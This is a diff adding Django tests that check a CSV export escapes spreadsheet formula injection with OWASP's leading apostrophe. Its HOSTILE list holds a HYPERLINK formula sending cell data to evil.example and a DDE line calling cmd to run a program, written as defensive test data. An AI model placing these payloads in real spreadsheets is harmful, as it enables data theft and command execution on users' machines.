@@ -18,7 +18,7 @@ from django.db import close_old_connections
 from django.test import Client
 from django.urls import reverse
 
-from playground import zipdownload
+from playground import csvexport, zipdownload
 from playground.models import Generation, State
 from tests.test_gallery import make
 from tests.test_s3 import bucket, s3_endpoint  # noqa: F401 - the moto server fixtures
@@ -173,3 +173,60 @@ def test_a_video_without_a_recorded_size_is_measured_in_storage(signed_in: Clien
     Generation.objects.filter(pk=gen.pk).update(video_size=None)
     gen.refresh_from_db()
     assert download(signed_in, [gen]).read(gen.download_name) == b"y" * (size + 5)
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tsneaky tab",
+    "\rsneaky return",
+]
+
+
+@pytest.mark.parametrize("prompt", HOSTILE)
+def test_a_prompt_a_spreadsheet_would_run_is_kept_as_readable_text(signed_in: Client, user, prompt):
+    gen = video(user, prompt, b"v")
+    row = index(download(signed_in, [gen]))[0]
+    assert row["prompt"] == "'" + prompt  # OWASP's leading apostrophe, the text itself unchanged
+    assert row["video"] == str(gen.pk)
+
+
+def test_every_index_cell_is_quoted_and_a_maker_name_cannot_start_a_formula_either(signed_in: Client, user):
+    from tests.factories import member
+
+    plotter = member("@plotter")  # Django's usernames may begin with @, + or -
+    a = video(
+        plotter, "A calm sea; =1+1 after a separator", b"a", usd_spent=Decimal("0.5"), credits_used=12.0
+    )
+    text = download(signed_in, [a]).read("index.csv").decode("utf-8-sig")
+    header, line = text.splitlines()
+    assert header == '"file","video","prompt","model","maker","date","cost_usd","credits"'
+    cells = line.split('","')
+    assert cells[0].startswith('"') and cells[-1] == '12"'
+    assert '"A calm sea; =1+1 after a separator"' in line  # one quoted cell, whatever the separator
+    assert '"\'@plotter"' in line
+    assert '"0.5"' in line
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-3", "'-3"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("\0x", "'\0x"),
+        ("a=1", "a=1"),
+        (" =1", " =1"),
+        ("", ""),
+        (None, ""),
+        (12, "12"),
+        (Decimal("0.43"), "0.43"),
+    ],
+)
+def test_the_one_cell_rule(value, cell):
+    assert csvexport.cell(value) == cell
